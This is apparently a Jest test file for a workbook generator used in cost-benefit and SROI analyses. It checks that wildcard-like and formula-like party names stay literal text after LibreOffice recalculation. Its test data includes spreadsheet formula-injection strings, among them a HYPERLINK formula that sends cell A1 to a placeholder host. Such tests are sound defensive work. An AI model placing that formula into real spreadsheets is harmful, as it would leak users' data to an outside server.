/**
 * Names that Excel's criteria would read as patterns (`N*`, `>M`, `Vol?nteers`, `~users`)
 * match only themselves in the generated sheets: recalculated by LibreOffice, every
 * party's figures equal the model's, beside parties the patterns would otherwise catch.
 */
import * as fs from "fs";
import * as path from "path";
import { evaluatePerspectives } from "../../src/journeys/perspectives/evaluate";
import { parsePerspectives } from "../../src/journeys/perspectives/validate";
import {
  perspectivePlan,
  PERSPECTIVE_SUMMARY_FIRST_ROW,
} from "../../src/journeys/perspectives/workbook";
import { parseSroi } from "../../src/journeys/sroi/validate";
import { sroiPlan } from "../../src/journeys/sroi/workbook";
import { planToXlsx } from "../../src/workbook/xlsx";
import { recalculateXlsx } from "../support/libreoffice";
import type { PerspectiveAnalysis } from "../../src/journeys/perspectives/types";

jest.setTimeout(180000);

const read = (f: string) =>
  JSON.parse(fs.readFileSync(path.resolve(__dirname, "../../examples", f), "utf8"));

/** Each pattern beside a party it would match as a pattern, with different amounts. */
const PAIRS: [string, string][] = [
  ["N*", "NHS"],
  [">M", "Z council"],
  ["Vol?nteers", "Volunteers"],
  ["~users", "users"],
  ["=DWP", "DWP"],
  ["Government", "Societal"],
  ['=HYPERLINK("http://x/?d="&A1,"Click me")', "Click me"],
  ["+SUM(1,2)", "3"],
  ["@SUM(1)", "1"],
  ["\t=1+1", "2"],
];

test("perspectives: every party's name reads back as typed and its present values equal the model's", async () => {
  const base = parsePerspectives(read("perspectives-community-navigators.json"));
  const flows: PerspectiveAnalysis["flows"] = PAIRS.flatMap(([pattern, plain], i) => [
    { party: pattern, sector: "public", kind: "cost", description: `cost ${i}`, amounts: [10 + i] },
    {
      party: pattern,
      sector: "public",
      kind: "benefit",
      description: `benefit ${i}`,
      amounts: [30 + 7 * i],
    },
    {
      party: plain,
      sector: "public",
      kind: "cost",
      description: `cost ${i}`,
      amounts: [50 + 3 * i],
    },
    {
      party: plain,
      sector: "public",
      kind: "benefit",
      description: `benefit ${i}`,
      amounts: [70 + 11 * i],
    },
  ]);
  const c = parsePerspectives({ ...base, flows });
  const results = evaluatePerspectives(c);
  const summary = recalculateXlsx(await planToXlsx(perspectivePlan(c)), 1);
  expect(results).toHaveLength(PAIRS.length * 2 + 2);
  results.forEach((r, k) => {
    const row = summary[PERSPECTIVE_SUMMARY_FIRST_ROW - 1 + k];
    if (k < PAIRS.length * 2) expect(row[0]).toBe(r.perspective);
    else expect(row[0].toLowerCase()).toBe(r.perspective);
    expect(Math.abs(Number(row[1]) - r.pvCosts)).toBeLessThanOrEqual(0.005);
    expect(Math.abs(Number(row[2]) - r.pvBenefits)).toBeLessThanOrEqual(0.005);
  });
});

test("SROI: a value-map stakeholder that only a wildcard would find in the list fails the check", async () => {
  const base = read("sroi-community-navigators.json");
  const listed = parseSroi({
    ...base,
    stakeholders: ["Volunteers", ...base.stakeholders.filter((s: string) => s !== "Volunteers")],
  });
  const plan = sroiPlan({
    ...listed,
    outcomes: listed.outcomes.map((o) =>
      o.stakeholder === "Service users" ? { ...o, stakeholder: "Service user*" } : o
    ),
  });
  const summary = recalculateXlsx(await planToXlsx(plan), 1);
  const check = summary.find((r) => r[0] === "Every outcome's stakeholder is listed")!;
  expect(check[1]).toBe("FALSE");
  const fine = recalculateXlsx(await planToXlsx(sroiPlan(listed)), 1);
  expect(fine.find((r) => r[0] === "Every outcome's stakeholder is listed")![1]).toBe("TRUE");
});
